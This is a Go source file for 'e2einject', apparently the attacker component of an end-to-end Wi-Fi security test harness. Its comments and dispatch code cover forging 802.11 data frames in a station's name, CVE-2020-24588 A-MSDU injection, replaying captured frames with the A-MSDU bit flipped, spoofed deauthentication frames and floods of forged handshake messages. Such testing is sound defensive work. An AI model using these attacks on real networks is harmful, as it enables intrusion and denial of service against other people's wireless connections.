// Command e2einject is the e2e harness's attacker: from an active monitor
// on a radio of its own it forges and replays data frames in a station's
// name, and on the hosts it sends and counts the UDP datagrams that show
// what got through. One mode per invocation:
//
//	e2einject plain   -ifname fmon0 -ta STA -bssid BSSID -da HOSTMAC -src IP -dst IP:PORT -n 40
//	e2einject amsdu   -ifname fmon0 -ta STA -bssid BSSID -da HOSTMAC -src IP -dst IP:PORT -n 20
//	e2einject capture -ifname fmon0 -ta STA -bssid BSSID -out FILE -duration 10s
//	e2einject replay  -ifname fmon0 -in FILE [-flip-amsdu]
//	e2einject mgmt    -ifname fmon0 -ta SRC -ra DST -bssid BSSID -kind deauth|disassoc|auth|assoc [-ssid S -akm 6] -n 10
//	e2einject join    -ifname fmon0 -ta OWNMAC -bssid BSSID -ssid S -akm 6 [-no-mfpc]
//	e2einject msg2    -ifname fmon0 -ta OWNMAC -bssid BSSID -ssid S -akm 2 -no-mfpc -rate 1000 -duration 10s
//	e2einject listen  -addr IP -ports 9996,9997,9998
//	e2einject send    -dst IP:PORT -n 20 -interval 200ms -tag genuine
//
// plain sends unprotected data frames (QoS and non-QoS in turn), each an
// LLC/SNAP IPv4 UDP datagram "plain N" to -dst. amsdu sends unprotected
// A-MSDUs whose first subframe's DA is an RFC 1042 header (a plain MSDU's
// LLC/SNAP read as a subframe header: CVE-2020-24588) and whose second
// subframe, from the station to -da, is a UDP datagram "amsdu N": a
// receiver that skipped only the bad first subframe would deliver it.
// capture keeps the protected data frames the station sends to the BSSID,
// as they were on the air; replay injects them again, verbatim, or with
// -flip-amsdu only the QoS ones with the A-MSDU Present bit set (it is
// outside CCMP's AAD unless SPP A-MSDUs are negotiated). listen prints one
// line per datagram received; send sends -n datagrams "TAG N". mgmt
// sends unprotected management frames from -ta to -ra (the 802.11w
// checks: deauthentications and disassociations with reason 7,
// open-system authentications, association requests offering MFP); the
// frame is the AP's when -ta is the BSSID. join authenticates and asks
// to associate from the monitor's own address (-ta: an active monitor
// acknowledges frames to it), offering MFP unless -no-mfpc, and prints
// the AP's status codes: "SUMMARY auth=S assoc=S ...". msg2 associates
// the same way, waits for the 4-way handshake's message 1 and floods
// forged messages 2 under its replay counter (random SNonce and MIC each,
// -rate a second), associating again whenever the AP lets it go, for
// -duration: "SUMMARY sent=N errors=M joins=J msg1=K".
//
// The injecting modes print "SUMMARY sent=N errors=M" (capture:
// "SUMMARY captured=N qos=M") and exit 0; 1 if the interface or a socket
// could not be opened, 2 on bad flags.
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"time"
)

func main() {
	if len(os.Args) < 2 {
		usage("a mode: plain, amsdu, capture, replay, mgmt, join, msg2, listen or send")
	}
	mode := os.Args[1]
	fs := flag.NewFlagSet(mode, flag.ExitOnError)
	ifname := fs.String("ifname", "fmon0", "monitor interface to inject on / capture from")
	taS := fs.String("ta", "", "the station's MAC: the transmitter address")
	bssidS := fs.String("bssid", "", "the access point's BSSID: the receiver address")
	daS := fs.String("da", "", "the host's MAC: the destination of the forged MSDUs")
	srcS := fs.String("src", "", "the station's IPv4 address: the forged datagrams' source")
	dstS := fs.String("dst", "", "IP:PORT the datagrams go to")
	n := fs.Int("n", 20, "frames (datagrams) to send")
	interval := fs.Duration("interval", 20*time.Millisecond, "between two frames (datagrams)")
	out := fs.String("out", "", "capture: file the frames are written to")
	in := fs.String("in", "", "replay: file of captured frames")
	flip := fs.Bool("flip-amsdu", false, "replay: only QoS frames, with the A-MSDU Present bit set")
	duration := fs.Duration("duration", 10*time.Second, "capture, msg2: how long")
	rate := fs.Float64("rate", 1000, "msg2: forged messages 2 a second")
	addr := fs.String("addr", "", "listen: the local IPv4 address")
	ports := fs.String("ports", "", "listen: comma-separated UDP ports")
	tag := fs.String("tag", "genuine", "send: the datagrams' text before their number")
	raS := fs.String("ra", "", "mgmt: the receiver address")
	kind := fs.String("kind", "deauth", "mgmt: deauth, disassoc, auth or assoc")
	ssid := fs.String("ssid", "", "mgmt: the SSID of an association request")
	noMFPC := fs.Bool("no-mfpc", false, "mgmt, join: the association request's RSNE offers no MFP")
	akm := fs.Int("akm", 6, "mgmt: the AKM suite type of an association request's RSNE (2 PSK, 6 PSK-SHA256)")
	_ = fs.Parse(os.Args[2:])

	switch mode {
	case "plain", "amsdu":
		f := forger{ta: mustMAC("ta", *taS), bssid: mustMAC("bssid", *bssidS), da: mustMAC("da", *daS)}
		f.src = mustIP("src", *srcS)
		f.dst, f.port = mustHostPort(*dstS)
		inj := mustInjector(*ifname)
		for i := range *n {
			if mode == "plain" {
				inj.send(f.plain(i))
			} else {
				inj.send(f.amsdu(i))
			}
			time.Sleep(*interval)
		}
		inj.summary()
	case "capture":
		if *out == "" {
			usage("-out")
		}
		exitOn(capture(*ifname, mustMAC("ta", *taS), mustMAC("bssid", *bssidS), *out, *duration))
	case "replay":
		if *in == "" {
			usage("-in")
		}
		frames, err := readFrames(*in)
		exitOn(err)
		inj := mustInjector(*ifname)
		for _, fr := range frames {
			if *flip {
				if !isQoS(fr) {
					continue
				}
				fr[24] |= 0x80 // QoS Control b7: A-MSDU Present
			}
			inj.send(fr)
			time.Sleep(*interval)
		}
		inj.summary()
	case "mgmt":
		f := mgmtForger{ta: mustMAC("ta", *taS), ra: mustMAC("ra", *raS), bssid: mustMAC("bssid", *bssidS), ssid: *ssid,
			akm: byte(*akm), noMFPC: *noMFPC}
		inj := mustInjector(*ifname)
		for range *n {
			fr, err := f.frame(*kind, f.ta == f.bssid)
			if err != nil {
				usage(err.Error())
			}
			inj.send(fr)
			time.Sleep(*interval)
		}
		inj.summary()
	case "join":
		bssid := mustMAC("bssid", *bssidS)
		exitOn(join(*ifname, mgmtForger{ta: mustMAC("ta", *taS), ra: bssid, bssid: bssid, ssid: *ssid, akm: byte(*akm), noMFPC: *noMFPC}))
	case "msg2":
		bssid := mustMAC("bssid", *bssidS)
		if *rate <= 0 {
			usage("-rate above 0")
		}
		exitOn(msg2Flood(*ifname, mgmtForger{ta: mustMAC("ta", *taS), ra: bssid, bssid: bssid, ssid: *ssid, akm: byte(*akm), noMFPC: *noMFPC}, *rate, *duration))
	case "listen":
		exitOn(listen(mustIP("addr", *addr), *ports))
	case "send":
		ip, port := mustHostPort(*dstS)
		exitOn(send(ip, port, *tag, *n, *interval))
	default:
		usage("a mode: plain, amsdu, capture, replay, mgmt, join, msg2, listen or send, not " + mode)
	}
}

func usage(want string) {
	fmt.Fprintf(os.Stderr, "e2einject: want %s\n", want)
	os.Exit(2)
}

func exitOn(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "e2einject:", err)
		os.Exit(1)
	}
}

func mustMAC(name, s string) [6]byte {
	m, err := net.ParseMAC(s)
	if err != nil || len(m) != 6 {
		usage(fmt.Sprintf("-%s as a MAC address, not %q", name, s))
	}
	return [6]byte(m)
}

func mustIP(name, s string) [4]byte {
	ip := net.ParseIP(s).To4()
	if ip == nil {
		usage(fmt.Sprintf("-%s as an IPv4 address, not %q", name, s))
	}
	return [4]byte(ip)
}

func mustHostPort(s string) ([4]byte, int) {
	a, err := net.ResolveUDPAddr("udp4", s)
	if err != nil || a.IP.To4() == nil {
		usage(fmt.Sprintf("-dst as IPv4:PORT, not %q", s))
	}
	return [4]byte(a.IP.To4()), a.Port
}
